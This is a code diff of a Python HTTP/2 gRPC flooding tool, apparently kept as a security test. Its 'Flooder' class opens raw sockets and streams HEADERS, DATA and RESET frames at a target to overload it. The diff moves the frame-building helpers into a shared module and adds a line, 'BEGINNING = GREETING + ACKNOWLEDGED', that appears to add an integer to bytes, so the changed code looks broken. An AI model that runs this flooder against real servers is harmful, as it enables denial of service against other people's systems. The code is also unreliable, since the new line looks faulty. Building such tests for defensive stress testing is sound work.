@@ -16,25 +16,23 @@ import socket
 import time
 from collections import Counter
 
-DATA, HEADERS, RESET, SETTINGS, WINDOW_UPDATE = 0, 1, 3, 4, 8  # types of HTTP/2 frames
-END_HEADERS, ACKNOWLEDGED = 4, 1
+from tests.security.attacks.grpc_frames import (
+    ACKNOWLEDGED,
+    DATA,
+    END_HEADERS,
+    GREETING,
+    HEADERS,
+    RESET,
+    WINDOW_UPDATE,
+    call_head,
+    frame,
+)
+
 CALLS = 500  # of one write
 WINDOW = 65535  # bytes of messages on a connection until the server allows more
 LAST_STREAM = 1 << 30
-
-
-def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
-    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
-
-
 # With the server's settings acknowledged only its limit of streams counts.
-GREETING = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS) + frame(SETTINGS, ACKNOWLEDGED)
-
-
-def head(path: bytes) -> bytes:
-    fields = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"x"}
-    fields |= {b"te": b"trailers", b"content-type": b"application/grpc"}
-    return b"".join(bytes((0, len(k))) + k + bytes((len(v),)) + v for k, v in fields.items())
+BEGINNING = GREETING + ACKNOWLEDGED
 
 
 class Flooder:
@@ -43,7 +41,7 @@ class Flooder:
     def __init__(self, given: argparse.Namespace, done: Counter[str]):
         host, _, port = given.address.rpartition(":")
         self._address, self._source, self._done = (host, int(port)), given.source, done
-        self._head, self._reset, self._message = head(given.path.encode()), given.reset, given.message
+        self._head, self._reset, self._message = call_head(given.path.encode()), given.reset, given.message
         self.sock: socket.socket | None = None
 
     def connect(self) -> None:
@@ -53,7 +51,7 @@ class Flooder:
         self.sock.setblocking(False)
         with contextlib.suppress(BlockingIOError):
             self.sock.connect(self._address)
-        self._rest = memoryview(GREETING)
+        self._rest = memoryview(BEGINNING)
         self._received = b""
         self._window = WINDOW
         self._next = 1
